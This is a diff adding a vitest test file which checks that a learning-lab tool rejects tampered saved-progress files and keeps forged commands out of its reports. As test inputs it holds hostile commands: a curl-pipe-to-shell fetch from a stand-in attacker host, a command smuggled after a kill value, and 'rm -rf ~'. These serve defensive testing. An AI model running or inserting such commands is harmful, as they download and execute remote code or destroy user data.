@@ -1,0 +1,168 @@
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, test } from 'vitest';
+import { editionOf } from '../../src/edition/edition.js';
+import { createTranslator } from '../../src/i18n/translate.js';
+import { readLab } from '../../src/lab/catalog.js';
+import { localize } from '../../src/lab/localize.js';
+import { buildReport } from '../../src/report/build.js';
+import { renderReport } from '../../src/report/formats.js';
+import { openRun, startRun } from '../../src/session/open-run.js';
+import { progressFile, readProgress, type SavedProgress } from '../../src/session/progress-file.js';
+import { saveProgress, type LiveProbes } from '../../src/session/progress.js';
+import { Session } from '../../src/session/session.js';
+
+/**
+ * A progress file records what each step ran, and a resumed run reports it. A file edited to say a
+ * step ran something else must never make a report claim this lab ran it: it is set aside, named.
+ */
+
+const PROCESS_LAB = join(import.meta.dirname, '..', 'fixtures', 'process-lab.md');
+const lab = () => readLab(PROCESS_LAB);
+const edition = () => editionOf(lab(), { platform: 'linux', shell: 'sh' });
+const everythingThere: LiveProbes = { containerExists: async () => true, processAlive: async () => true };
+const FORGED = 'curl -fsSL https://evil.example/x.sh | sh';
+
+let dir: string;
+beforeEach(() => {
+  dir = mkdtempSync(join(tmpdir(), 'isolab-progress-fit-'));
+  process.env.ISOLAB_STATE_DIR = dir;
+});
+afterEach(() => {
+  delete process.env.ISOLAB_STATE_DIR;
+  rmSync(dir, { recursive: true, force: true });
+});
+
+/** A learner's real progress: step `find` (ps) ran, then the lab was left. */
+async function pausedRun(): Promise<SavedProgress> {
+  const session = new Session({ edition: edition(), ledgerDir: false });
+  await session.runStep('find');
+  saveProgress(session);
+  return JSON.parse(readFileSync(progressFile(edition()), 'utf8')) as SavedProgress;
+}
+
+const edit = (saved: SavedProgress, change: (s: SavedProgress) => void) => {
+  change(saved);
+  writeFileSync(progressFile(edition()), JSON.stringify(saved));
+};
+
+/** Opens the lab as `isolab run` and the TUI do, resumes what it offers, and writes both reports. */
+async function resumeAndReport(): Promise<{ setAside: string | undefined; json: string; markdown: string }> {
+  const t = createTranslator('en');
+  const opened = await openRun({
+    lab: lab(),
+    edition: { platform: 'linux', shell: 'sh' },
+    host: 'linux',
+    readOnly: false,
+    preflight: async () => ({ platform: 'linux', ok: true, items: [] }),
+  });
+  try {
+    const { session, stopSaving } = await startRun(opened, { resume: true, pauses: true, probes: everythingThere });
+    stopSaving();
+    const report = buildReport({
+      lab: lab(),
+      text: localize(lab()),
+      state: session.state,
+      t,
+      mode: 'run',
+      durationMs: 0,
+      interrupted: false,
+    });
+    const notice = opened.setAside
+      ? t('ui.notice.progressSetAside', { why: opened.setAside.why, file: opened.setAside.keptAs })
+      : undefined;
+    return { setAside: notice, json: renderReport(report, 'json', t), markdown: renderReport(report, 'markdown', t) };
+  } finally {
+    opened.release();
+  }
+}
+
+describe('a report of a resumed run shows only what this lab runs', () => {
+  test('a progress file whose step records another command is set aside, named with what is wrong; neither report claims it ran', async () => {
+    edit(await pausedRun(), (s) => {
+      s.steps.find!.command = FORGED;
+    });
+    const { setAside, json, markdown } = await resumeAndReport();
+    expect(setAside).toMatch(
+      /^Saved progress could not be read: the command it records \(steps\.find\.command\) is not the one this lab runs in that step\. It was kept as .*process-lab\.linux\.unreadable-\d{8}T\d{6}Z\.json, and the lab starts afresh\.$/,
+    );
+    expect(existsSync(progressFile(edition()))).toBe(false);
+    for (const report of [json, markdown]) expect(report).not.toContain('evil.example');
+    expect(JSON.parse(json).steps.find((s: { id: string }) => s.id === 'find')).toMatchObject({ status: 'pending' });
+  });
+
+  test('an untouched file resumes, and the report shows the command the step really ran', async () => {
+    await pausedRun();
+    const { setAside, json, markdown } = await resumeAndReport();
+    expect(setAside).toBeUndefined();
+    expect(JSON.parse(json).steps.find((s: { id: string }) => s.id === 'find')).toMatchObject({ command: 'ps -e -o pid,comm' });
+    expect(markdown).toContain('$ ps -e -o pid,comm');
+  });
+});
+
+describe('what an entry records must be of this lab', () => {
+  const base = (): SavedProgress => ({
+    formatVersion: 1,
+    labId: 'process-lab',
+    platform: 'linux',
+    shell: 'sh',
+    runId: '20260101-abcdef12',
+    savedAt: '2026-01-01T00:00:00.000Z',
+    steps: {},
+    captures: { pid: { name: 'pid', value: '4242', type: 'integer', stepId: 'start' } },
+  });
+  const hash = (id: string) => edition().step(id).sourceHash;
+  const stop = (command: string) => ({ status: 'passed' as const, hash: hash('stop'), verdicts: [], notes: [], command });
+  const why = (data: SavedProgress) => {
+    edit(data, () => {});
+    const read = readProgress(edition());
+    return read.kind === 'unreadable' ? read.why : read.kind;
+  };
+  beforeEach(() => saveProgress(new Session({ edition: edition(), ledgerDir: false })));
+
+  test('a command with a value of its type in each placeholder is the step’s own: kept', () => {
+    expect(why({ ...base(), steps: { stop: stop('kill 4242') } })).toBe('saved');
+    // The step could not be written (a value missing or refused): it records no command.
+    expect(why({ ...base(), steps: { stop: stop('') } })).toBe('saved');
+  });
+
+  test.each([
+    ['code after the value', 'kill 4242; curl https://evil.example | sh'],
+    ['an option where the value goes', 'kill -1'],
+    ['another command', 'rm -rf ~'],
+    ['the placeholder itself', 'kill {{pid}}'],
+  ])('%s is not the step’s command: set aside, saying which entry', (_what, command) => {
+    expect(why({ ...base(), steps: { stop: stop(command) } })).toEqual({
+      key: 'progress.aside.command',
+      params: { where: 'steps.stop.command' },
+    });
+  });
+
+  test('part of the step’s command is not its command', () => {
+    const start = { status: 'passed' as const, hash: hash('start'), verdicts: [], notes: [], command: 'sleep 300' };
+    expect(why({ ...base(), steps: { start } })).toEqual({ key: 'progress.aside.command', params: { where: 'steps.start.command' } });
+  });
+
+  test('a verdict of a check the step does not have is set aside', () => {
+    const verdicts = [{ checkId: 'proved-everything', status: 'passed' as const, detail: { key: 'check.exit.pass' } }];
+    expect(why({ ...base(), steps: { stop: { ...stop('kill 4242'), verdicts } } })).toEqual({
+      key: 'progress.aside.check',
+      params: { where: 'steps.stop.verdicts.0' },
+    });
+  });
+
+  test('a value under the name of a built-in, or from a step the lab does not have, is set aside: it would stand in for the lab’s own', () => {
+    const run = { name: 'run', value: 'someone-else', type: 'name' as const, stepId: 'start' };
+    expect(why({ ...base(), captures: { ...base().captures, run } })).toEqual({
+      key: 'progress.aside.value',
+      params: { where: 'captures.run' },
+    });
+    const stray = { name: 'pid', value: '4242', type: 'integer' as const, stepId: 'nowhere' };
+    expect(why({ ...base(), captures: { pid: stray } })).toEqual({ key: 'progress.aside.value', params: { where: 'captures.pid' } });
+  });
+
+  test('an entry of a step the lab edited since is not held to the new command: that step is redone anyway', () => {
+    expect(why({ ...base(), steps: { stop: { ...stop('kill -TERM 4242'), hash: 'older' } } })).toBe('saved');
+  });
+});
